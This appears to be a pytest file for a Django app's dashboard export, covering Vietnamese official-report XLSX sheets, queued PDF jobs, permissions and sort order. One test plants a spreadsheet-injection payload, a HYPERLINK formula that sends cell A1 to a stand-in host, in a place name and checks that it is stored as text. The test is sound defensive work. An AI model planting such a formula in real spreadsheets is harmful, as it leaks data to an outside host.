"""Issue 18 item 4: the dashboard's Excel file is a report a commune can send up (not a key dump), and a PDF of it.

Every figure the page shows (its ``data-k``/``data-v``) is found, equal, in the XLSX: the last sheet ("Dữ liệu
máy") names the cell of the first sheet that shows each key, and that cell holds the same number.
"""

from __future__ import annotations

import io
import re

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from ngoso.accounts.models import AuditEntry
from ngoso.insights import dashboard as dash
from ngoso.insights import report
from ngoso.skills.models import Skill
from ngoso.visits import services
from ngoso.visits.services import SkillResult


@pytest.fixture
def visited(people, users, area):
    from tests import factories

    factories.village_team(area, users, leader=False)
    today = timezone.localdate()
    basic = list(Skill.objects.filter(catalogue__is_current=True).exclude(basic5=""))
    services.record_visit(users.member, people.h1, visited_on=today, present=[people.r1.pk],
                          results=[SkillResult(people.r1.pk, s.code, 2) for s in basic])
    services.record_visit(users.member, people.h1, visited_on=today, present=[people.r2.pk],
                          results=[SkillResult(people.r2.pk, "zalo-messaging", 1)])
    users.commune_a.first_name = "Nguyễn Thị Hoa"
    users.commune_a.save()
    return today


def _book(client, code, lang="vi"):
    client.cookies["django_language"] = lang
    r = client.get(f"/places/{code}/dashboard.xlsx")
    assert r.status_code == 200 and r["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(r.content))


def _cell(wb, ref: str):
    sheet, coord = ref.rsplit("!", 1)
    return wb[sheet.strip("'")][coord]


def test_every_figure_on_the_page_is_the_same_in_the_first_sheet(visited, users, area, login):
    client = login(users.province)
    for place in (area.a, area.province, area.old_district, area.va1):
        html = client.get(f"/places/{place.code}/dashboard/").content.decode()
        shown = dict(re.findall(r'data-k="([^"]+)" data-v="([^"]*)"', html))
        assert len(shown) > 40, place
        wb = _book(client, place.code)
        machine = wb.worksheets[-1]
        assert machine.title == "Dữ liệu máy" and wb.worksheets[0].title == "Báo cáo"
        keys = {r[0]: (r[1], r[2]) for r in machine.iter_rows(min_row=2, values_only=True)}
        assert keys.keys() == dict(dash.flatten(dash.dashboard(place))).keys()
        for k, v in shown.items():
            value, where = keys[k]
            assert str(value) == v, (place.code, k)
            assert where and where.startswith("'Báo cáo'!"), (place.code, k, where)  # on the first sheet, as on the page
            assert str(_cell(wb, where).value) == v, (place.code, k, where)
        # every percentage the report shows is a real percentage: the figure / 100, formatted 0.0%
        pcts = [(k, v, w) for k, (v, w) in keys.items() if k.endswith("_pct") and w]
        assert len(pcts) > 20
        for k, v, where in pcts:
            c = _cell(wb, where)
            assert c.number_format == "0.0%", (k, where)
            assert (c.value is None and v is None) or abs(c.value * 100 - v) < 1e-9, (k, c.value, v)
    api = client.get(f"/api/v1/places/{area.a.code}/indicators").json()
    assert api["basic5"]["households"] == 1  # the machine-readable keys stay in the JSON API
    # and every key of the API is in the machine sheet with the same value (the providers' sections too)
    for place in (area.a, area.province, area.va1):
        api = dict(dash.flatten(client.get(f"/api/v1/places/{place.code}/indicators").json()))
        machine = {r[0]: r[1] for r in _book(client, place.code).worksheets[-1].iter_rows(min_row=2, values_only=True)}
        assert len(api) > 40 and api == machine, (place.code, set(api.items()) ^ set(machine.items()))


def test_the_first_sheet_is_an_official_report(visited, users, area, login):
    client = login(users.commune_a)
    wb = _book(client, area.a.code)
    ws = wb["Báo cáo"]
    today = timezone.localdate()
    assert ws["A1"].value == "UBND XÃ NGỌC THIỆN" and ws["A2"].value == "TỔ CÔNG NGHỆ SỐ CỘNG ĐỒNG"
    assert ws["C1"].value == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" and ws["C2"].value == "Độc lập - Tự do - Hạnh phúc"
    assert ws["C3"].value == f"Ngọc Thiện, ngày {today:%d} tháng {today:%m} năm {today.year}"
    texts = [c.value for c in ws["A"][:12] if isinstance(c.value, str)]
    assert "BÁO CÁO KẾT QUẢ CHUYỂN ĐỔI SỐ CỘNG ĐỒNG" in texts
    assert "Địa bàn: Xã Ngọc Thiện, Tỉnh Bắc Ninh" in texts
    assert f"Tính đến ngày {today:%d/%m/%Y}" in texts
    assert any(t.startswith("Người xuất: Nguyễn Thị Hoa (Cán bộ xã") for t in texts), texts
    # headings and Vietnamese labels, numbers grouped, widths set, A4 fitted to the width, title rows repeated
    col_a = [c.value for c in ws["A"]]
    for label in ("Tổng quan", "Hộ gia đình", "Kỹ năng", "Lượt thăm theo tuần", "Địa bàn trực thuộc"):
        assert any(v == label or (isinstance(v, str) and v.startswith(label)) for v in col_a), label
    households = next(r for r in ws.iter_rows(min_row=10) if r[0].value == "Hộ gia đình" and isinstance(r[1].value, int))
    assert households[1].number_format == "#,##0"
    assert ws.column_dimensions["A"].width >= 40 and ws.column_dimensions["B"].width >= 12
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4 and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_title_rows
    names = wb.sheetnames
    for name in ("Nhóm đối tượng", "Lượt thăm theo tuần", "Kỹ năng", "Kỹ năng theo nhóm", "Địa bàn trực thuộc",
                 "Thôn chưa có tổ công nghệ số", "Chưa thăm trong 30 ngày", "Sinh kế số", "Dữ liệu máy"):
        assert name in names, (name, names)
    by_group = wb["Kỹ năng theo nhóm"]
    assert by_group["A3"].value.startswith("số người trong nhóm")  # a table's note stands above it
    skills = wb["Kỹ năng"]
    assert skills.print_title_rows and skills.freeze_panes and str(skills.page_setup.paperSize) == skills.PAPERSIZE_A4
    assert not any(isinstance(c.value, str) and re.match(r"\w+\[", c.value) for c in ws["A"])  # no key dump here


def test_the_report_follows_the_users_language(visited, users, area, login):
    client = login(users.commune_a)
    wb = _book(client, area.a.code, lang="en")
    assert wb.sheetnames[0] == "Report" and wb.sheetnames[-1] == "Machine data"
    ws = wb["Report"]
    assert ws["A1"].value == "PEOPLE'S COMMITTEE OF XÃ NGỌC THIỆN" and ws["C1"].value == "SOCIALIST REPUBLIC OF VIET NAM"
    col_a = [c.value for c in ws["A"] if isinstance(c.value, str)]
    assert f"As of {timezone.localdate():%d/%m/%Y}" in col_a and "Overview" in col_a and "Skills" in col_a
    assert "Using Zalo to send messages" in col_a or any("Zalo" in v and v.isascii() for v in col_a), col_a


def test_every_text_in_the_report_is_a_text_never_a_formula(visited, users, area):
    area.va2.name = '=HYPERLINK("http://x.example/"&A1,"bấm")'
    area.va2.save()
    data = report.to_xlsx(report.build(dash.dashboard(area.a), user=users.commune_a))
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == area.va2.name and c.data_type == "s" for c in cells)


def test_the_pdf_prints_the_same_report_with_the_chart(visited, users, area, login, monkeypatch, settings, tmp_path,
                                                     django_capture_on_commit_callbacks):
    """Issue 17: the link queues a ``dashboard_pdf`` job and answers with the job page at once; the worker renders
    the PDF; the download is the same report (text, A4, the chart's bars). A second click reuses the waiting job."""
    from pypdf import PdfReader

    from ngoso.core import jobs
    from ngoso.core.models import Job

    settings.EXPORT_ROOT = tmp_path
    rendered = []
    monkeypatch.setattr(report, "to_pdf", lambda rep, _real=report.to_pdf: rendered.append(1) or _real(rep))
    client = login(users.province)
    for place, lang, words in ((area.a, "vi", ("UBND XÃ NGỌC THIỆN", "BÁO CÁO KẾT QUẢ CHUYỂN ĐỔI SỐ CỘNG ĐỒNG",
                                                 "Tính đến ngày", "Lượt thăm theo tuần", "Tổng quan")),
                               (area.province, "en", ("PEOPLE'S COMMITTEE OF TỈNH BẮC NINH", "As of",
                                                      "Visits per week", "Places below"))):
        client.cookies["django_language"] = lang
        rendered.clear()
        with django_capture_on_commit_callbacks() as queued:
            r = client.get(f"/places/{place.code}/dashboard.pdf")
            again = client.get(f"/places/{place.code}/dashboard.pdf")  # a second click while it waits
        assert r.status_code == 302 and rendered == [], place.code  # nothing rendered in the request
        job = Job.objects.get(kind="dashboard_pdf", params__place=place.code)
        assert r.url == again.url == job.get_absolute_url() and len(queued) == 1
        assert job.params == {"place": place.code, "language": lang, "user_id": users.province.pk}
        assert job.place_path == place.path and job.created_by == users.province
        assert "<progress" in client.get(r.url).content.decode()  # the job page's bar while it waits
        jobs.run_now(job)  # as a worker runs it
        job.refresh_from_db()
        assert job.status == "done" and job.expires_at and rendered == [1], job.error
        assert f"/jobs/{job.token}/download/" in client.get(r.url).content.decode()
        got = client.get(f"/jobs/{job.token}/download/")
        assert got.status_code == 200 and got["Content-Type"] == "application/pdf"
        body = b"".join(got.streaming_content)
        assert body.startswith(b"%PDF")
        pdf = PdfReader(io.BytesIO(body))
        text = "\n".join(p.extract_text() for p in pdf.pages)
        for w in words:
            assert w in text, (place.code, w)
        assert pdf.pages[0].mediabox.width == pytest.approx(595.3, abs=1)  # A4 portrait
        # the chart: 26 bars drawn as rectangles (the tables' cells are lines and text)
        ops = b"".join(p.get_contents().get_data() for p in pdf.pages)
        assert len(re.findall(rb"\bre\b", ops)) >= 26, place.code
    # once done, a new click queues a new job (only a waiting one is reused)
    client.cookies["django_language"] = "en"
    r = client.get(f"/places/{area.province.code}/dashboard.pdf")
    assert Job.objects.filter(kind="dashboard_pdf").count() == 3 and r.url != job.get_absolute_url()
    assert AuditEntry.objects.filter(action="export", model="insights.Dashboard").count() == 2


def test_the_report_is_only_for_who_may_see_the_place(visited, users, area, login):
    from ngoso.core import jobs
    from ngoso.core.models import Job

    for url in (f"/places/{area.a.code}/dashboard.xlsx", f"/places/{area.a.code}/dashboard.pdf"):
        assert login(users.commune_b).get(url).status_code == 403
        assert login(users.viewer).get(url).status_code in (200, 302)
    assert not Job.objects.filter(created_by=users.commune_b).exists()  # a refused click queues nothing
    # the viewer's PDF is a job the viewer opens (every role holds "dashboard"), the maker's larger staff too,
    # and nobody else of the same commune nor another commune
    job = Job.objects.get(kind="dashboard_pdf", created_by=users.viewer)
    assert jobs.KIND_PERMISSION["dashboard_pdf"] == "dashboard"
    assert jobs.may_open(users.viewer, job) and jobs.may_open(users.province, job)
    assert not jobs.may_open(users.commune_b, job) and not jobs.may_open(users.commune_a, job)
    assert login(users.commune_b).get(job.get_absolute_url()).status_code == 404


def test_places_below_are_in_vietnamese_order_on_the_page_and_in_every_sheet(visited, users, area, login):
    """Found sending the commune demo's report up: the places below were sorted by code point ("Thôn Yên Bình"
    before "Thôn Đình", "Thôn Nam" before "Thôn Nà", "Thôn Tràng" before "Thôn Trại") on the page, in the XLSX's
    "Địa bàn trực thuộc" and in the providers' tables of the places below (livelihoods)."""
    from ngoso.core.text import vi_sorted
    from ngoso.places.services import add_village

    for name in ("Yên Bình", "Nam", "Nà", "Tràng", "Trại", "Cầu", "Cẩm Sơn", "Đình", "Dĩnh"):
        add_village(area.a, name)
    expected = vi_sorted([p.name for p in area.a.children.all()])
    assert expected.index("Thôn Dĩnh") < expected.index("Thôn Đình") < expected.index("Thôn Nà") \
        < expected.index("Thôn Nam") < expected.index("Thôn Yên Bình")
    assert [c["name"] for c in dash.dashboard(area.a)["children"]] == expected
    client = login(users.commune_a)
    html = client.get(f"/places/{area.a.code}/dashboard/").content.decode()
    assert [n for n in re.findall(r"Thôn [^<\"]+?(?=<)", html) if n in expected][:len(expected)] == expected
    wb = _book(client, area.a.code)
    below = wb["Địa bàn trực thuộc"]
    assert [r[0] for r in below.iter_rows(min_row=5, values_only=True)] == expected
    livelihoods = [c.value for c in wb["Sinh kế số"]["A"] if c.value in expected]
    assert livelihoods == expected


def test_headings_fit_their_rows_and_nothing_is_said_twice_or_left_blank(visited, users, area, login):
    """Found opening the commune demo's report in a spreadsheet: wrapped headings ("Có người tự làm được cả 5")
    were cut to one line (no program grows a row to its wrapped text on opening), the exporter read
    "Cán bộ xã (Cán bộ xã)" when the name is the role, and a list with nothing in it was a lone header row."""
    import math

    users.commune_a.first_name, users.commune_a.last_name = "Cán bộ xã", ""
    users.commune_a.save()
    client = login(users.commune_a)
    for code in (area.a.code, area.va1.code):
        wb = _book(client, code)
        checked = 0
        for ws in wb.worksheets[:-1]:
            for row in ws.iter_rows():
                if not row[0].fill or row[0].fill.fgColor.rgb not in ("00E8EEF4", "FFE8EEF4"):
                    continue  # a table's header row has the header fill
                for c in row:
                    if not isinstance(c.value, str):
                        continue
                    width = ws.column_dimensions[c.column_letter].width
                    need = math.ceil(len(c.value) * 1.1 / width)  # at least this many lines of a bold heading
                    if need > 1:
                        height = ws.row_dimensions[c.row].height
                        assert height and height >= 15 * need, (ws.title, c.coordinate, c.value, width, height)
                        checked += 1
        assert checked >= 3, code
        texts = [c.value for c in wb["Báo cáo"]["A"][:12] if isinstance(c.value, str)]
        exporter = next(t for t in texts if t.startswith("Người xuất:"))
        assert exporter.startswith("Người xuất: Cán bộ xã, lúc "), exporter
    # the village has its team and a visit today: both lists of villages left behind are empty and say so
    for sheet in ("Thôn chưa có tổ công nghệ số", "Chưa thăm trong 30 ngày"):
        ws = wb[sheet]
        assert ws["A3"].value == "Không có thôn nào của địa bàn trong danh sách này.", (sheet, ws["A3"].value)
        assert ws.max_row == 4  # the header row, no row of data
